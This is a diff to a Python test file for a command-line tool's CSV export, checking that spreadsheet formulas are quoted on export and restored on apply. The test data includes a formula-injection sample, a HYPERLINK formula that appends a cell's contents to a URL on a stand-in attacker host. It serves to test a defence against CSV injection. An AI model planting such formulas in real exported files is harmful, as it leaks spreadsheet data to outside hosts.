@@ -14,7 +14,7 @@ import pytest
 from virtnum.cli.output.formulas import unguard, write_csv
 from virtnum.testing import FakeServer
 
-from ..._support import run_cli
+from ..._support import applied, run_cli
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -69,8 +69,7 @@ def test_the_csv_export_quotes_formulas_and_apply_restores_them(
     assert rows[first]["number"] == threaded_server.numbers[first]["number"]
     for number_id in wanted:  # changed since the export: apply puts the export back
         threaded_server.numbers[number_id]["comment"] = "changed"
-    result = run_cli(threaded_server, "numbers", "apply", str(path))
-    assert result.returncode == 0, result.stderr
+    applied(threaded_server, str(path))
     assert {i: threaded_server.numbers[i]["comment"] for i in wanted} == wanted
 
 
@@ -82,8 +81,7 @@ def test_raw_csv_writes_and_reads_the_cells_as_they_are(
     assert {i: rows[i]["comment"] for i in wanted} == wanted
     path = tmp_path / "raw.csv"
     path.write_text("id,comment\n" + "".join(f"{i},'=x{i}\n" for i in wanted))
-    result = run_cli(threaded_server, "numbers", "apply", str(path), "--raw-csv")
-    assert result.returncode == 0, result.stderr
+    applied(threaded_server, str(path), "--raw-csv")
     assert {threaded_server.numbers[i]["comment"] for i in wanted} == {f"'=x{i}" for i in wanted}
     refused = run_cli(threaded_server, "numbers", "list", "--format", "jsonl", "--raw-csv")
     assert refused.returncode == 2
